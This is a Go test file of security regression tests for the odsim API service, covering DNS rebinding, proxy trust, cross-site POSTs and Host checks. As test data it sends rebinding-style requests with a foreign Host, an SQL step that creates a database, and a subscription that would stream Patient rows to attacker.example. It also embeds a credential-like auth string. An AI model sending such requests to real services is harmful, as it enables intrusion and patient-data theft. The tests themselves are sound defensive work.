package apiservice_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/odsim/odsim/apiservice"
	"github.com/odsim/odsim/control"
	"github.com/odsim/odsim/store/storetest"
)

// send makes one request to odsim with the given Host header (the URL's when ""), and returns the status
// and the body.
func send(t *testing.T, method, rawURL, host string, header http.Header, body string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, rawURL, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if host != "" {
		req.Host = host
	}
	for k, v := range header {
		req.Header[k] = v
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, rawURL, err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(data)
}

func code(t *testing.T, body string) string {
	t.Helper()
	var e control.ErrorBody
	if err := json.Unmarshal([]byte(body), &e); err != nil {
		t.Fatalf("not a control API error: %s", body)
	}
	return e.Code
}

// databaseExists reports whether the test server has a database called name.
func databaseExists(t *testing.T, s *apiservice.Service, name string) bool {
	t.Helper()
	var n int
	if err := s.DB().SQL().QueryRow("SELECT COUNT(*) FROM information_schema.SCHEMATA WHERE SCHEMA_NAME = ?", name).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n > 0
}

func randomName(prefix string) string {
	b := make([]byte, 6)
	rand.Read(b)
	return prefix + hex.EncodeToString(b)
}

// The request, to a real odsim on MariaDB: a scenario with an sql: step, sent from loopback with
// a foreign Host as a page on a DNS-rebinding domain would send it. It answered 202 and created the
// database; now it is refused with 403, and so is the same request with a loopback Host unless odsim
// runs with --allow-sql. (The database name is made unique, so that tests running at once on the shared
// server cannot see each other's; the was "pwned".)
func TestScenarioSQLFromARebindingPageIsRefused(t *testing.T) {
	t.Parallel()
	storetest.RequireServer(t)
	s := start(t, apiservice.Config{})
	db := randomName("pwned_")
	body := `{"yaml":"steps:\n  - sql: \"CREATE DATABASE IF NOT EXISTS ` + db + `\"\n","speed":"max"}`
	t.Cleanup(func() { s.DB().SQL().Exec("DROP DATABASE IF EXISTS " + db) })
	js := http.Header{"Content-Type": {"application/json"}}

	status, answer := send(t, "POST", s.URL()+"/odsim/v1/scenarios", "attacker.example:30223", js, body)
	if status != http.StatusForbidden || code(t, answer) != control.Forbidden || !strings.Contains(answer, "is not this machine") {
		t.Errorf("Host attacker.example: %d %s, want 403", status, answer)
	}
	status, answer = send(t, "POST", s.URL()+"/odsim/v1/scenarios", "", js, body)
	if status != http.StatusForbidden || code(t, answer) != control.SQLNotAllowed || !strings.Contains(answer, "--allow-sql") {
		t.Errorf("without --allow-sql: %d %s, want 403 sql_not_allowed", status, answer)
	}
	if databaseExists(t, s, db) {
		t.Fatalf("a refused request created database %s", db)
	}
	if st, _ := send(t, "GET", s.URL()+"/odsim/v1/scenarios", "", nil, ""); st != http.StatusOK {
		t.Errorf("GET scenarios: %d", st)
	}

	// With --allow-sql the same scenario runs, from this machine, addressed to it.
	allowed := start(t, apiservice.Config{AllowSQL: true})
	status, answer = send(t, "POST", allowed.URL()+"/odsim/v1/scenarios", "", js, body)
	if status != http.StatusAccepted {
		t.Fatalf("with --allow-sql: %d %s, want 202", status, answer)
	}
	deadline := time.Now().Add(10 * time.Second)
	for !databaseExists(t, allowed, db) && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if !databaseExists(t, allowed, db) {
		t.Errorf("with --allow-sql the scenario's sql: step did not run")
	}
}

// --allow-sql on an address other machines can reach is refused at start without --control-token.
func TestAllowSQLOffLoopbackNeedsAToken(t *testing.T) {
	t.Parallel()
	for _, listen := range []string{"0.0.0.0:0", ":0", "[::]:0", "192.0.2.1:0", "odsim.example:0"} {
		_, err := apiservice.Start(context.Background(), apiservice.Config{DSN: "unused@tcp(127.0.0.1:1)/x", Listen: listen, AllowSQL: true})
		if err == nil || !strings.Contains(err.Error(), "--allow-sql with --listen "+listen+" needs --control-token") {
			t.Errorf("--listen %s --allow-sql: %v", listen, err)
		}
	}
	if _, err := apiservice.Start(context.Background(), apiservice.Config{DSN: "unused@tcp(127.0.0.1:1)/x", AllowedHosts: []string{"http://x/"}}); err == nil || !strings.Contains(err.Error(), "--allowed-host") {
		t.Errorf("a URL as allowed host: %v", err)
	}
}

// Behind a reverse proxy on the same machine every client's TCP peer is loopback. A request the proxy
// forwarded (httputil.ReverseProxy adds X-Forwarded-For, as most proxies do) is not trusted as local:
// 403 without the token, served with it. Before, it got 200.
func TestControlAPIThroughALocalProxy(t *testing.T) {
	t.Parallel()
	for _, token := range []string{"", "s3cret"} {
		s := start(t, apiservice.Config{ControlToken: token})
		target, _ := url.Parse(s.URL())
		proxy := httptest.NewServer(httputil.NewSingleHostReverseProxy(target))
		t.Cleanup(proxy.Close)
		h := http.Header{"X-Forwarded-For": {"203.0.113.5"}}
		if token != "" {
			h.Set("Authorization", "Bearer "+token)
		}
		status, answer := send(t, "GET", proxy.URL+"/odsim/v1/workstations", "", h, "")
		switch {
		case token == "" && (status != http.StatusForbidden || !strings.Contains(answer, "came through a proxy")):
			t.Errorf("through a proxy without a token: %d %s, want 403", status, answer)
		case token != "" && status != http.StatusOK:
			t.Errorf("through a proxy with the token: %d %s, want 200", status, answer)
		}
	}
}

// A "simple" cross-site request — a POST with no body and no Content-Type, which any page can make a
// browser send — is refused on the real listener; the same poll with JSON is served.
func TestEmptyBodyPollIsRefused(t *testing.T) {
	t.Parallel()
	s := start(t, apiservice.Config{})
	if status, answer := send(t, "POST", s.URL()+"/odsim/v1/poll", "", nil, ""); status != http.StatusUnsupportedMediaType {
		t.Errorf("empty-body POST poll: %d %s, want 415", status, answer)
	}
	if status, answer := send(t, "POST", s.URL()+"/odsim/v1/poll", "", http.Header{"Content-Type": {"text/plain"}}, "{}"); status != http.StatusUnsupportedMediaType {
		t.Errorf("text/plain POST poll: %d %s, want 415", status, answer)
	}
	if status, answer := send(t, "POST", s.URL()+"/odsim/v1/poll", "", http.Header{"Content-Type": {"application/json"}}, ""); status != http.StatusOK {
		t.Errorf("JSON POST poll: %d %s, want 200", status, answer)
	}
}

// On a loopback listener the Subscriptions API answers only requests addressed to this machine (or an
// --allowed-host): a page on a DNS-rebinding domain must not subscribe a URL of its own to the
// practice's rows.
func TestSubscriptionsAPIHostOnLoopback(t *testing.T) {
	t.Parallel()
	s := start(t, apiservice.Config{AllowedHosts: []string{"odsim.test"}})
	body := `{"EndPointUrl":"https://attacker.example/","WatchTable":"Patient","PollingSeconds":1}`
	h := http.Header{"Content-Type": {"application/json"}, "Authorization": {"ODFHIR NFF6i0KrXrxDkZHt/VzkmZEaUWOjnQX2z"}}
	status, answer := send(t, "POST", s.URL()+"/api/v1/subscriptions", "attacker.example:30223", h, body)
	var msg string
	if status != http.StatusForbidden || json.Unmarshal([]byte(answer), &msg) != nil || !strings.Contains(msg, "is not this machine") {
		t.Errorf("POST with Host attacker.example: %d %s, want 403 and a JSON string", status, answer)
	}
	var n int
	if err := s.DB().SQL().QueryRow("SELECT COUNT(*) FROM apisubscription").Scan(&n); err != nil || n != 0 {
		t.Errorf("a refused POST stored %d subscriptions (%v)", n, err)
	}
	for _, host := range []string{"", "localhost:30223", "odsim.test:30223"} {
		if status, answer := send(t, "GET", s.URL()+"/api/v1/subscriptions", host, h, ""); status != http.StatusOK {
			t.Errorf("GET with Host %q: %d %s", host, status, answer)
		}
	}
	if status, _ := send(t, "GET", s.URL()+"/healthz", "attacker.example", nil, ""); status != http.StatusOK {
		t.Errorf("healthz answers any Host (Docker health checks): %d", status)
	}
}
